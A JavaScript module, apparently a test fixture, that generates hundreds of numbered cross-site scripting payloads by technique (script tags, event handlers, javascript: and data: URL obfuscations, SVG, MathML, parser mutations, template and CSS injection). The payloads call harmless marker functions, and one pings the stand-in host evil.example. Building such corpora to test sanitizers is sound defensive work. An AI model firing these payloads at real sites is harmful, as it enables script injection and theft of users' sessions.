/**
 * Everything that has made a page run what somebody wrote, by its trick. `vagarRan` and `alert` are both listened
 * for; each payload carries its own number, so that it is known which one ran.
 * @typedef {{ id: string, trick: string, text: string }} Payload
 */

/** @param {(run: string) => string[]} make @returns {(id: string) => string[]} */
const bothWays = (make) => (id) => [
  ...make(`vagarRan('${id}')`),
  ...make(`alert('${id}')`).filter((_, place) => place % 2 === 0),
];

const scripts = bothWays((run) => [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script >${run}</script >`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `</p><script>${run}</script><p>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `<!--><script>${run}</script>-->`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type="module">${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `＜script＞${run}＜/script＞`,
  `<script>/*</script><script>*/${run}</script>`,
]);

const handlers = bothWays((run) => [
  ...['onerror', 'ONERROR', 'OnErRoR'].map((name) => `<img src=x ${name}="${run}">`),
  ...['onload', 'onpageshow', 'onfocus', 'onresize', 'onhashchange'].map((name) => `<body ${name}="${run}">`),
  ...['onfocus', 'onblur', 'onbeforeinput', 'oninput', 'oninvalid', 'onselect'].map(
    (name) => `<input autofocus ${name}="${run}">`,
  ),
  ...['onmouseover', 'onpointerenter', 'onclick', 'oncontextmenu', 'onwheel', 'onpointerrawupdate'].map(
    (name) => `<div ${name}="${run}">ord</div>`,
  ),
  ...['ontoggle', 'onbeforetoggle'].map((name) => `<details open ${name}="${run}">ord</details>`),
  ...['onloadstart', 'onerror', 'oncanplay', 'onloadeddata'].map(
    (name) => `<video ${name}="${run}"><source src=x></video>`,
  ),
  ...['onanimationstart', 'onanimationend', 'ontransitionend', 'ontransitionrun'].map(
    (name) => `<p style="animation:x 1s;transition:all 1s" ${name}="${run}">ord</p>`,
  ),
  ...['onscroll', 'onscrollend', 'onscrollsnapchange'].map(
    (name) => `<div style="overflow:auto;height:1px" ${name}="${run}"><br><br><a id=x></div>`,
  ),
  `<img/src=x/onerror=${run}>`,
  `<img src=x\tonerror=${run}>`,
  `<img src=x\nonerror\n=\n"${run}">`,
  `<img src=x onerror=${run}//`,
  `<img src='x' onerror='${run.replaceAll("'", '&#39;')}'>`,
  `<img src=x onerror=&#x76;agarRan(1)>`,
  `<img """><img src=x onerror="${run}">`,
  `<img src=\`x\` onerror="${run}">`,
  `<x onclick="${run}" tabindex=1 autofocus onfocus="${run}">`,
  `<marquee onstart="${run}">ord</marquee>`,
  `<select autofocus onfocus="${run}"><option>ord</select>`,
  `<audio src onloadstart="${run}">`,
  `<object data=x onerror="${run}"></object>`,
  `<link rel=stylesheet href=x onerror="${run}">`,
  `<iframe srcdoc="<img src=x onerror=parent.${run}>"></iframe>`,
  `<button popovertarget=x>ord</button><div popover id=x onbeforetoggle="${run}">`,
  `<dialog open onclose="${run}"><form method=dialog><button>ord`,
  `ord" onmouseover="${run}" x="`,
  `ord' autofocus onfocus='vagarRan(1)' x='`,
]);

const spellings = [
  'javascript:',
  'JAVASCRIPT:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  '\njavascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  'jav&#x09;ascript:',
  'jav&#x0A;ascript:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3A;',
  '\u0001javascript:',
  '\u00a0javascript:',
  '\u200bjavascript:',
  '\u2028javascript:',
  '\ufeffjavascript:',
  'javascript\u200b:',
  'javascript://%0a',
  'javascript://rvn.se/%0d',
  'javascript:/*https://rvn.se*/',
  'ｊavascript:',
  'javascript：',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
  'vbscript:',
  'VBSCRIPT:',
  'livescript:',
  'mocha:',
  'https://javascript:',
  '//javascript:',
  '\\javascript:',
  '/\\javascript:',
];

/** Addresses alone, as they would be put in a link's field. @param {string} id */
const addresses = (id) => [
  ...spellings.map((scheme) => `${scheme}vagarRan('${id}')`),
  `data:text/html,<script>parent.vagarRan('${id}')</script>`,
  `DATA:text/html;base64,${Buffer.from(`<script>opener.vagarRan('${id}')</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="vagarRan('${id}')"/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>vagarRan('${id}')</script>`,
  `d\tata:text/html,<script>vagarRan('${id}')</script>`,
  `blob:https://rvn.se/${id}`,
  `filesystem:https://rvn.se/${id}`,
  `about:blank#<script>vagarRan('${id}')</script>`,
];

/** The same in the elements that take addresses. @param {string} id */
const links = (id) => {
  const run = `javascript:vagarRan('${id}')`;
  return [
    ...spellings.slice(0, 24).map((scheme) => `<a href="${scheme}vagarRan('${id}')">ord</a>`),
    `<a xlink:href="${run}">ord</a>`,
    `<area href="${run}">`,
    `<base href="${run}//">`,
    `<form action="${run}"><button>ord</button></form>`,
    `<button formaction="${run}" form=x>ord</button><form id=x>`,
    `<input type=image src=x formaction="${run}">`,
    `<iframe src="${run}"></iframe>`,
    `<frameset><frame src="${run}"></frameset>`,
    `<embed src="${run}">`,
    `<object data="${run}"></object>`,
    `<meta http-equiv=refresh content="0;url=${run}">`,
    `<a href="#" ping="https://evil.example/${id}" onclick="vagarRan('${id}')">ord</a>`,
    `[ord](${run})`,
    `![ord](${run})`,
    `<${run}>`,
    `<a href=https://rvn.se@javascript:vagarRan(1)>ord</a>`,
  ];
};

const drawings = bothWays((run) => [
  `<svg onload="${run}"/>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><script>${run.replaceAll("'", '&#39;')}</script></svg>`,
  `<svg><a href="javascript:${run}"><text>ord</text></a></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>ord</text></a></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set onbegin="${run}" attributeName="x"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>ord</text></a></svg>`,
  `<svg><a><set attributeName="xlink:href" to="javascript:${run}"/><text>ord</text></a></svg>`,
  `<svg><animateTransform onbegin="${run}" attributeName="transform"/></svg>`,
  `<svg><animateMotion onbegin="${run}"/></svg>`,
  `<svg><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/></foreignObject></svg>`,
  `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"/></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,&lt;svg id='x' onload='vagarRan(1)'/&gt;#x"/></svg>`,
  `<svg><image href="x" onerror="${run}"/></svg>`,
  `<svg><image href="javascript:${run}"/></svg>`,
  `<svg><handler type="text/javascript">${run}</handler></svg>`,
  `<svg><style>@import "javascript:${run}";</style></svg>`,
  `<svg><rect style="fill:url(javascript:${run})" width="9" height="9"/></svg>`,
  `<svg><text onclick="${run}" onmouseover="${run}">ord</text></svg>`,
  `<svg><desc><![CDATA[</desc><script>${run}</script>]]></desc></svg>`,
  `<svg><title><img src="x" onerror="${run}"/></title></svg>`,
  `<svg xmlns:x="http://www.w3.org/2000/svg"><x:script>${run}</x:script></svg>`,
  `<svg><discard onbegin="${run}"/></svg>`,
  `<svg><filter><feImage href="javascript:${run}" onload="${run}"/></filter></svg>`,
  `<svg><switch><g onload="${run}"/></switch></svg>`,
  `<svg><metadata><script>${run}</script></metadata></svg>`,
]);

const formulas = bothWays((run) => [
  `<math href="javascript:${run}">ord</math>`,
  `<math><mtext href="javascript:${run}">ord</mtext></math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">ord</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src="x" onerror="${run}"/></annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<math><mglyph><img src=x onerror="${run}">`,
]);

const mutations = bothWays((run) => [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror="${run}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><style><img/src=x onerror=${run}>`,
  `<p><svg><title><style><img title="</style><img src=x onerror=${run}>">`,
  `<table><caption><img src=x onerror="${run}"></caption></table>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<plaintext><img src=x onerror="${run}">`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  `<select><template><img src=x onerror="${run}"></template></select>`,
  `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<?xml version="1.0"?><img src=x onerror="${run}">`,
  `<a id=x tabindex=1 onfocus="${run}"></a><a id=x name=y>`,
  `<img name=getElementById><form id=x><input name=attributes>${run}`,
  `<svg><desc><noscript><style></noscript><img src=x onerror="${run}">`,
  `<dl><dt><svg><desc></dl><img src=x onerror="${run}">`,
  `<b><a href="x"><svg><style></a></b><img src=x onerror="${run}">`,
  `<ruby><rtc><img src=x onerror="${run}"></ruby>`,
  `<p class="</p><img src=x onerror=${run}>">`,
  `\u0000<img src=x onerror="${run}">`,
  `<im\u0000g src=x onerror="${run}">`,
  `<img src=x on\u0000error="${run}">`,
]);

const templates = bothWays((run) => [
  `{{constructor.constructor("${run}")()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{{${run}}}`,
  `[[${run}]]`,
  `{%${run}%}`,
  `<style>*{background:url("javascript:${run}")}</style>`,
  `<style>@import 'javascript:${run}';</style>`,
  `<div style="background:url(javascript:${run})">ord</div>`,
  `<div style="width:expression(${run})">ord</div>`,
  `<div style="-moz-binding:url(data:text/xml,${run})">ord</div>`,
  `<div style="behavior:url(#default#time2)" onbegin="${run}">ord</div>`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${run})}">`,
  `<p style="font-family:'</style><img src=x onerror=${run}>'">ord</p>`,
  `{"__html":"<img src=x onerror=${run}>"}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}`,
  `=HYPERLINK("javascript:${run}")`,
  `@import url(javascript:${run})`,
  `'+${run}+'`,
  `";${run};//`,
  `\`;${run};//`,
]);

const tricks = { scripts, handlers, addresses, links, drawings, formulas, mutations, templates };

/** All of them, numbered in order. @returns {Payload[]} */
export const allPayloads = () => {
  /** @type {Payload[]} */
  const all = [];
  for (const [trick, make] of Object.entries(tricks)) {
    // Counted once with any number, then made with the right one.
    const count = make('x').length;
    for (let place = 0; place < count; place += 1) {
      const id = `p${all.length + 1}`;
      all.push({ id, trick, text: make(id)[place] ?? '' });
    }
  }
  return all;
};

/** One of each trick after another, evenly from all of them. @param {number} count */
export const somePayloads = (count) => {
  const all = allPayloads();
  const step = Math.max(1, Math.floor(all.length / count));
  return all.filter((_, place) => place % step === 0).slice(0, count);
};
